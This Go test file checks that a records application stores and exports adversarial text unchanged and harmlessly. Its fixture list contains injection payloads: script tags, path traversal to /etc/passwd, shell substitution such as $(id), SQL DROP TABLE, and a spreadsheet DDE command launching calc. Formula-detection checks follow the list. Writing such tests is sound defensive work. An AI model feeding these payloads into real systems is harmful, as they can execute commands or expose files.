package hostile

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"samsvar/exchange"
	"samsvar/i18n"
	"samsvar/model"
	"samsvar/model/reg"
	"samsvar/storage"
)

// nasty are texts that have done harm in other programs.
func nasty() map[string]string {
	all := map[string]string{
		"emoji":           "Kari \U0001f9d1\u200d\U0001f4bb\U0001f3fd og 👨‍👩‍👧‍👦 🇳🇴",
		"controls":        "a" + controls() + "b",
		"right to left":   "a\u202egnp.exe\u202c \u2067שלום\u2069 مرحبا",
		"beyond the BMP":  "𝕊𝕒𝕞𝕤𝕧𝕒𝕣 𐍈 \U0010ffff",
		"marks":           "a" + strings.Repeat("\u0301", 500) + "e\u030a",
		"invalid UTF-8":   "a\xff\xfe\xc0\x80\xed\xa0\x80b",
		"NUL":             "a\x00b",
		"markup":          `<script>alert(1)</script> ]]> & <!-- --> <?xml ?> "'`,
		"quotes":          `"";'';\";|;"` + "\r\n;;\t,",
		"line ends":       "a\rb\nc\r\nd\u2028e\u2029f\u0085g",
		"folders":         `../../../etc/passwd C:\Windows\System32 \\server\share CON x:stream`,
		"fields":          "{{.}} ${x} %s%n%x $(id) `id` ';DROP TABLE x;--",
		"escapes of XLSX": "_x000D_ _x0041_ _x005F_",
		"spreadsheet":     "=cmd|' /C calc'!A0",
	}
	leading := []string{"=", "+", "-", "@", "|", "%", "\t", "\r", "\n", "＝", "＋", "－", "＠", "｜", "％"}
	for _, first := range leading[:much(len(leading), 10)] {
		all["begins with "+first] = first + `HYPERLINK("http://x.invalid?"&A1)`
		all["begins with a blank and "+first] = " \u00a0" + first + "1+1"
	}
	return all
}

// fill puts a text into all of a record's texts.
func fill(r *reg.Register, text string) reg.Record {
	rec := r.New()
	for _, f := range r.Fields {
		if !f.Managed && (f.Kind == reg.KindText || f.Kind == reg.KindLongText) {
			_ = f.Of(rec).Parse(text) // what does not fit is not the matter here
		}
	}
	return rec
}

// Every text of every register takes every text, or refuses it in words; and
// what it takes comes out of the store, of all exports and of the yearly
// documents as it was, readable and without effect on whoever reads it.
func TestHostileTexts(t *testing.T) {
	path := filepath.Join(t.TempDir(), "etat.samsvar")
	s, err := storage.Create(path, options())
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = s.Close() }()
	taken := 0
	for name, content := range nasty() {
		for _, r := range model.All() {
			result, err := s.Save(storage.Change{Records: []storage.Write{{Register: r.Key, Record: fill(r, content)}}})
			var invalid *storage.Invalid
			if err != nil && !errors.As(err, &invalid) {
				t.Errorf("%s: %s: %v", name, r.Key, err)
			}
			taken += result.Created
		}
	}
	report, err := s.Verify()
	if err != nil || !report.OK() || taken < 300 {
		t.Fatalf("%d records: %v %v", taken, err, report.Findings)
	}
	checkTexts(t, s)
	checkExports(t, s)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	checkDocuments(t, path)
	t.Logf("tried: %d records of %d hostile texts, none changed by store, exports or documents", taken, len(nasty()))
}

// checkTexts holds what was taken to being valid text.
func checkTexts(t *testing.T, s *storage.Store) {
	t.Helper()
	for _, r := range model.All() {
		for _, rec := range s.View().All(r.Key) {
			r.EachText(rec, func(f *reg.Field, text string) {
				if !utf8.ValidString(text) || strings.ContainsRune(text, 0) {
					t.Errorf("%s.%s holds %q", r.Key, f.Path, text)
				}
			})
		}
	}
}

// checkExports writes each register in each way, looks for what a spreadsheet
// would carry out, and reads it again: nothing may have changed.
func checkExports(t *testing.T, s *storage.Store) {
	t.Helper()
	texts, err := i18n.New(i18n.Bokmal)
	if err != nil {
		t.Fatal(err)
	}
	e := exchange.Exporter{Source: s.View(), Texts: texts}
	for _, r := range model.All() {
		if s.View().Count(r.Key) == 0 {
			continue
		}
		for ending, write := range map[string]func(io.Writer) error{
			".xlsx": func(w io.Writer) error { return e.XLSX(w, r) },
			".csv":  func(w io.Writer) error { return e.CSV(w, r) },
			".json": func(w io.Writer) error { return e.JSON(w, r) },
		} {
			var out bytes.Buffer
			if err := write(&out); err != nil {
				t.Errorf("%s%s: %v", r.Key, ending, err)
				continue
			}
			harmless(t, r.Key+ending, out.Bytes())
			path := filepath.Join(t.TempDir(), "ut"+ending)
			if err := os.WriteFile(path, out.Bytes(), 0o600); err != nil {
				t.Fatal(err)
			}
			p, err := exchange.PlanFile(t.Context(), path, r, s.View(), exchange.Options{Texts: texts, Now: s.Info().Created})
			if err != nil {
				t.Errorf("read %s%s: %v", r.Key, ending, err)
				continue
			}
			for _, row := range p.Rows {
				if row.Status != exchange.StatusUnchanged {
					t.Errorf("%s%s: %s %+v", r.Key, ending, row.Status, row.Changes)
				}
			}
		}
	}
}

// harmless looks for formulas in a file.
func harmless(t *testing.T, name string, data []byte) {
	t.Helper()
	switch filepath.Ext(name) {
	case ".csv":
		in := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
		in.Comma, in.FieldsPerRecord, in.LazyQuotes = ';', -1, true
		rows, err := in.ReadAll()
		if err != nil {
			t.Errorf("%s: %v", name, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				first := strings.TrimLeft(cell, " \u00a0\u200b\n\r\t")
				if strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") || first != "" && strings.ContainsAny(first[:1], "=+@|%") {
					t.Fatalf("%s has the cell %q", name, cell)
				}
			}
		}
	case ".xlsx":
		z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range z.File {
			checkXML(t, name, f)
		}
	}
}

// checkXML holds a part of a workbook to being XML without formulas or links
// to elsewhere.
func checkXML(t *testing.T, name string, f *zip.File) {
	t.Helper()
	r, err := f.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = r.Close() }()
	dec := xml.NewDecoder(r)
	for {
		token, err := dec.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Errorf("%s: %s: %v", name, f.Name, err)
			return
		}
		start, ok := token.(xml.StartElement)
		if ok && strings.HasPrefix(f.Name, "xl/worksheets/sheet") && (start.Name.Local == "f" || start.Name.Local == "hyperlink") {
			t.Errorf("%s: %s has a formula or link", name, f.Name)
		}
	}
}

// checkDocuments writes the yearly documents of a store.
func checkDocuments(t *testing.T, store string) {
	t.Helper()
	for _, args := range [][]string{{"ve", "ve.pdf"}, {"lg", "lg.pdf"}, {"lg", "lg.html"}, {"ve", "ve.docx"}} {
		out := filepath.Join(t.TempDir(), args[1])
		o := program(t, "report", store, args[0], "--year", "2026", "--draft", "-o", out)
		o.stands(t)
		if info, err := os.Stat(out); err != nil || info.Size() < 1000 {
			t.Errorf("%s: %v, %.300s", args[1], err, o.err)
		}
	}
}
